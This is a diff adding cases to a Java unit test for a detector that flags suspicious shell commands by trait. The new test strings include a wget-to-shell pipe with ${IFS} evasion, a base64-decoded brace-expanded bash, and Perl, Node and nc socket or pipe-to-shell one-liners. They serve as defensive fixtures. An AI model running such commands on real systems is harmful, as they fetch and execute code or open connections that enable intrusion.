@@ -146,6 +146,16 @@ class FormatsTest {
         assertEquals(Set.of(Trait.NETWORK_TOOL), Suspicion.in("exec 3<>/dev/tcp/192.0.2.1/1"));
         assertEquals(Set.of(Trait.INLINE_SCRIPT), Suspicion.in("/usr/bin/python3 -c 'import os'"));
         assertEquals(Set.of(Trait.LOADER_VARIABLE), Suspicion.in("LD_PRELOAD=/x y"));
+        assertEquals(Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT), Suspicion.in("wget${IFS}-qO-${IFS}x.example|sh"));
+        assertEquals(
+                Set.of(Trait.DECODES, Trait.INLINE_SCRIPT), Suspicion.in("{echo,c2xlZXAgMA==}|{base64,-d}|{bash,-i}"));
+        assertEquals(
+                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
+                Suspicion.in("perl -e 'connect(S,sockaddr_in(1,inet_aton(\"192.0.2.1\")))'"));
+        assertEquals(
+                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
+                Suspicion.in("node -e \"require('net').connect(443)\""));
+        assertEquals(Set.of(Trait.INLINE_SCRIPT), Suspicion.in("nc -Uu -W1 /run/x/share.sock | sh"), "no network");
         assertEquals(Set.of(), Suspicion.in("/usr/sbin/sshd -D"));
         assertEquals(Set.of(), Suspicion.in("test -x /usr/sbin/anacron || run-parts /etc/cron.daily"));
     }
